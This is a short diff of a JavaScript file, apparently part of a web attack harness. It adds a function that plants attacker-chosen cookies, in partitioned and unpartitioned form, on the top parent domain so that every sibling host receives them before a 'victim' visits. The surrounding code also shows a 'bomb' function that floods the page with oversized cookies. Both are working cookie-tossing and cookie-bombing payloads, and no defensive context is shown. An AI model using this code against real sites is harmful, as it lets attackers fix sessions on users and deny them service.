@@ -251,6 +251,13 @@ window.attempts = {
     return "";
   }
 };
+// Before the victim was ever here: sign-ins of the attacker's own choice for all hosts that a cookie of this page reaches.
+window.before = wanted => {
+  for (const [name, value, path] of wanted)
+    for (const kind of ["", "; Partitioned"])
+      document.cookie = `${name}=${value}; Domain=${parents().at(-1)}; Path=${path}; Secure; SameSite=None${kind}`;
+  return document.cookie.length; // asked last: then all of them have arrived
+};
 window.bomb = () => {
   for (let number = 0; number < 40; number++) toss(`bomb${number}`, "x".repeat(3500));
   return document.cookie.length; // asked last: then all of them have arrived
